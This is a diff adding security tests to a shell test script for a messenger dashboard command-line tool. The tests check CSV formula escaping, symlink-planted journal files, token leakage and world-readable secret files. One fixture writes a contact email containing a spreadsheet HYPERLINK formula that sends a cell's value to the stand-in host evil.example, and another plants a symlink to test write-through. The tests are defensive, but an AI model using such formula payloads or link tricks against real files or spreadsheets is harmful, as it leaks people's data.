@@ -125,6 +125,30 @@ for cmd in "pages list" "pages list --json" "profiles list --json" "profiles sho
   out=$(M $cmd 2>&1)
   grep -qF "$TOKEN" <<<"$out" && fail "the token shows in: $cmd" || ok
 done
+# Files in and out (#26). A contact whose email a spreadsheet would run as a formula: the export
+# writes it with a leading ' (the JSON keeps it as it is).
+printf 'EMAIL,FIRSTNAME\n"=HYPERLINK(""http://evil.example/?x=""&B1)&""@x.com",Eve\n' >"$WORK/formula.csv"
+M contacts import "$WORK/formula.csv" >/dev/null
+M programs activate Orders >/dev/null
+# A link planted where the run keeps its answer journal: the run refuses to write through it.
+JOURNAL="$DB-answers-$(sqlite3 "$DB" "SELECT id FROM program WHERE name = 'Orders'")"
+printf 'precious\n' >"$WORK/precious"
+ln -sf "$WORK/precious" "$JOURNAL"
+M programs run Orders >/dev/null 2>&1
+[ "$(cat "$WORK/precious")" = precious ] && ok || fail "the run wrote through a link planted as its journal"
+rm -f "$JOURNAL"
+expect 0 "the warnings of the day as CSV" -- M stats Shop --contacts warning --date 2026-11-25 --csv
+grep -q "^\"'=HYPERLINK(" <<<"$OUT" && ok || fail "a formula cell went out live: $OUT"
+expect 0 "and as JSON" -- M stats Shop --contacts warning --date 2026-11-25 --json
+grep -qF '"=HYPERLINK(' <<<"$OUT" && ok || fail "JSON changed the value: $OUT"
+# A secret others can read is named with the fix, as ssh does.
+printf 'CLIENT-TOKEN\n' >"$WORK/shared-token"
+chmod 644 "$WORK/shared-token"
+MESSENGER_DASH_GRAPH_URL=http://127.0.0.1:9 "$BIN" --db "$WORK/none.db" --facebook graph login --client-token-file "$WORK/shared-token" </dev/null >/dev/null 2>"$WORK/login.err"
+grep -q "readable by others (mode 644): chmod 600" "$WORK/login.err" && ok || fail "no warning for a secret others can read: $(cat "$WORK/login.err")"
+chmod 600 "$WORK/shared-token"
+MESSENGER_DASH_GRAPH_URL=http://127.0.0.1:9 "$BIN" --db "$WORK/none.db" --facebook graph login --client-token-file "$WORK/shared-token" </dev/null >/dev/null 2>"$WORK/login.err"
+grep -q "chmod 600" "$WORK/login.err" && fail "a warning for a private secret" || ok
 echo "hostile cases tried: $cases"
 [ "$cases" -ge 40 ] && ok || fail "only $cases hostile cases"
 finish
